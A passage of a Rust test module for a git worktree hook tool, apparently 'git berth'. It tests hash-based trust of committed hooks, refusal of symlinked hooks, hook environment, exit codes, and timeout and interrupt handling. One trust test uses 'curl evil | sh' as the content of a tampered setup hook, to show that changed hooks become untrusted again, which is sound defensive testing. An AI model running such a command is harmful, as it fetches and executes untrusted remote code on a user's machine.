        let teardown = on_disk.teardown.unwrap();
        assert_eq!(
            teardown.source,
            Source::Checkout(checkout_dir(&repo_dir).join("teardown"))
        );
        assert_eq!(
            committed(&repo, head, names::HOOK_SETUP)
                .unwrap()
                .unwrap()
                .command()
                .as_deref(),
            Some("committed setup")
        );
        // The trusted hash is git's own blob id.
        let blob = repo
            .head_commit()
            .unwrap()
            .tree()
            .unwrap()
            .lookup_entry_by_path(".worktree-hooks/teardown")
            .unwrap()
            .unwrap()
            .object_id();
        assert_eq!(teardown.hash().unwrap(), blob);
    }

    #[test]
    fn a_project_without_hooks_has_none_in_force() {
        let dir = scratch("none");
        let hooks = in_force(&dir.join(".git"), Origin::Checkout(&dir)).unwrap();
        assert_eq!(hooks, Hooks::default());
        assert_eq!(hooks.ports().unwrap(), None);
    }

    #[test]
    fn teardown_is_read_from_the_primary_once_the_worktree_is_gone() {
        let dir = scratch("teardown-from");
        let primary = dir.join("primary");
        let worktree = dir.join("wt");
        fs::create_dir_all(&primary).unwrap();
        assert_eq!(teardown_checkout(&worktree, &primary), primary.as_path());
        fs::create_dir_all(&worktree).unwrap();
        assert_eq!(teardown_checkout(&worktree, &primary), worktree.as_path());
    }

    #[test]
    fn a_symlinked_hook_in_a_checkout_is_refused() {
        let dir = scratch("symlink");
        fs::create_dir_all(checkout_dir(&dir)).unwrap();
        std::os::unix::fs::symlink("/etc/hostname", checkout_dir(&dir).join("setup")).unwrap();
        let err = in_checkout(&dir, names::HOOK_SETUP)
            .unwrap_err()
            .to_string();
        assert!(err.contains("not a plain file"), "{err}");
    }

    #[test]
    fn trust_round_trips_and_a_changed_hook_is_untrusted_again() {
        let common = scratch("trust");
        let setup = checkout_hook("setup", "#!/bin/sh\ncommand='make'\n");
        let teardown = checkout_hook("teardown", "#!/bin/sh\ncommand='down'\n");
        assert!(!is_trusted(&common, &setup).unwrap());
        let err = ensure_trusted(&common, &[&setup, &teardown]).unwrap_err();
        let refusal = err.downcast_ref::<error::Refusal>().unwrap();
        assert!(
            refusal.message.contains("/repo/.worktree-hooks/setup"),
            "{}",
            refusal.message
        );
        assert!(refusal.message.contains("/repo/.worktree-hooks/teardown"));
        assert!(refusal.hint.as_deref().unwrap().contains("git berth trust"));

        assert_eq!(trust(&common, &[&setup, &teardown]).unwrap(), 2);
        assert_eq!(
            trust(&common, &[&setup]).unwrap(),
            0,
            "trusting twice records nothing"
        );
        assert!(is_trusted(&common, &setup).unwrap());
        ensure_trusted(&common, &[&setup, &teardown]).unwrap();
        assert_eq!(trusted(&common).unwrap().len(), 2);

        let changed = checkout_hook("setup", "#!/bin/sh\ncommand='curl evil | sh'\n");
        assert!(!is_trusted(&common, &changed).unwrap());
        // The same bytes under another name are not trusted as that hook.
        let swapped = checkout_hook("teardown", "#!/bin/sh\ncommand='make'\n");
        assert!(!is_trusted(&common, &swapped).unwrap());
    }

    #[test]
    fn local_hooks_and_read_only_hooks_need_no_trust() {
        let common = scratch("trust-local");
        let local = Hook {
            name: names::HOOK_SETUP,
            content: b"anything".to_vec(),
            source: Source::Local(local_dir(&common).join("setup")),
        };
        assert!(is_trusted(&common, &local).unwrap());
        assert!(is_trusted(&common, &checkout_hook("ports", "20\n")).unwrap());
        assert_eq!(trust(&common, &[&local]).unwrap(), 0);
        assert!(!trust_path(&common).exists());
    }

    #[test]
    fn a_corrupt_trust_file_is_named_and_left_as_it_is() {
        let common = scratch("trust-corrupt");
        let path = trust_path(&common);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, "this is = = not toml").unwrap();
        let hook = checkout_hook("setup", "x");
        for err in [
            is_trusted(&common, &hook).unwrap_err(),
            trust(&common, &[&hook]).unwrap_err(),
        ] {
            let refusal = err.downcast_ref::<error::Refusal>().unwrap();
            assert!(
                refusal.message.contains(&path.display().to_string()),
                "{}",
                refusal.message
            );
        }
        assert_eq!(fs::read_to_string(&path).unwrap(), "this is = = not toml");
    }

    #[test]
    fn a_hook_gets_its_environment_and_working_directory() {
        let dir = scratch("env");
        let cwd = dir.join("worktree");
        fs::create_dir_all(&cwd).unwrap();
        let out = dir.join("out");
        let command = format!(
            "printf '%s|%s|%s|%s\\n' \"$WORKTREE_NAME\" \"$WORKTREE_HOOK\" \"$(pwd -P)\" \"$0\" > {}",
            quote(out.to_str().unwrap())
        );
        let hook = checkout_hook("setup", &script(&command));
        run(
            &hook,
            &cwd,
            &[(names::hook_env::NAME, "auth".into())],
            Duration::from_secs(30),
        )
        .unwrap();
        assert_eq!(
            fs::read_to_string(&out).unwrap(),
            format!("auth|setup|{}|sh\n", cwd.display())
        );
    }

    #[test]
    fn a_failing_hook_is_reported_with_its_exit_code() {
        let dir = scratch("exit");
        let hook = checkout_hook("teardown", &script("exit 3"));
        let err = run(&hook, &dir, &[], Duration::from_secs(30)).unwrap_err();
        assert_eq!(
            err.downcast_ref::<Failed>(),
            Some(&Failed {
                hook: "teardown",
                how: Failure::Exit(3)
            })
        );
        assert_eq!(err.to_string(), "hook teardown failed with exit code 3");
    }

    #[test]
    fn a_hook_past_its_timeout_is_stopped_with_everything_it_started() {
        let dir = scratch("timeout");
        let pid_file = dir.join("pid");
        let hook = checkout_hook(
            "setup",
            &format!(
                "sleep 30 &\necho $! > {}\nsleep 30\n",
                quote(pid_file.to_str().unwrap())
            ),
        );
        let started = Instant::now();
        let err = run_with(
            &hook,
            &dir,
            &[],
            Duration::from_millis(300),
            Duration::from_secs(5),
            &|| false,
        )
        .unwrap_err();
        assert!(
            started.elapsed() < Duration::from_secs(4),
            "TERM alone should stop sleep"
        );
        assert_eq!(err.to_string(), "hook setup timed out after 300ms");
        assert!(
            running(std::process::id() as i32),
            "the check sees a live process"
        );
        let pid: i32 = wait_for_file(&pid_file).trim().parse().unwrap();
        let until = Instant::now() + Duration::from_secs(2);
        while running(pid) && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(10));
        }
        assert!(!running(pid), "the hook's background child {pid} survived");
    }

    #[test]
    fn a_hook_that_ignores_term_is_killed_after_the_grace() {
        let dir = scratch("kill");
        let pid_file = dir.join("pid");
        let hook = checkout_hook(
            "teardown",
            &format!(
                "trap '' TERM\nsleep 30 &\necho $! > {}\nwait\n",
                quote(pid_file.to_str().unwrap())
            ),
        );
        let grace = Duration::from_millis(400);
        let started = Instant::now();
        let err = run_with(&hook, &dir, &[], Duration::from_millis(300), grace, &|| {
            false
        })
        .unwrap_err();
        let took = started.elapsed();
        assert!(
            took >= Duration::from_millis(300) + grace,
            "killed before the grace: {took:?}"
        );
        assert!(took < Duration::from_secs(5), "{took:?}");
        assert!(matches!(
            err.downcast_ref::<Failed>().unwrap().how,
            Failure::TimedOut(_)
        ));
        let pid: i32 = wait_for_file(&pid_file).trim().parse().unwrap();
        let until = Instant::now() + Duration::from_secs(2);
        while running(pid) && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(10));
        }
        assert!(!running(pid), "the TERM-proof child {pid} survived");
    }

    #[test]
    fn an_interrupt_stops_the_hook_and_counts_as_failed() {
        let dir = scratch("interrupt");
        let pid_file = dir.join("pid");
        let hook = checkout_hook(
            "setup",
            &format!(
                "sleep 30 &\necho $! > {}\n: > {}\nwait\n",
                quote(pid_file.to_str().unwrap()),
                quote(dir.join("started").to_str().unwrap())
            ),
        );
        let started_file = dir.join("started");
        let started = Instant::now();
        let err = run_with(
            &hook,
            &dir,
            &[],
            Duration::from_secs(60),
            Duration::from_secs(5),
            &move || started_file.exists(),
        )
        .unwrap_err();
        assert!(started.elapsed() < Duration::from_secs(5));
        assert_eq!(err.to_string(), "hook setup was interrupted");
        let pid: i32 = wait_for_file(&pid_file).trim().parse().unwrap();
        let until = Instant::now() + Duration::from_secs(2);
        while running(pid) && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(10));
        }
        assert!(!running(pid));
    }

    #[test]
    fn the_timeout_reads_from_config_with_a_default() {
        assert_eq!(timeout(None).unwrap(), Duration::from_secs(15 * 60));
        assert_eq!(timeout(Some("90s")).unwrap(), Duration::from_secs(90));
        for bad in ["soon", "0", "5x"] {
            let err = timeout(Some(bad)).unwrap_err().to_string();
            assert!(err.contains("berth.hookTimeout"), "{err}");
        }
        let failed = Failed {
            hook: "setup",
            how: Failure::TimedOut(timeout(None).unwrap()),
        };
        assert_eq!(failed.to_string(), "hook setup timed out after 15m");
    }

    #[test]
    fn ports_and_seed_are_never_run() {
        let dir = scratch("not-run");
        let err = run(
            &checkout_hook("ports", "20\n"),
            &dir,
            &[],
            Duration::from_secs(5),
        );
        assert!(err.unwrap_err().to_string().contains("never run"));
    }
}
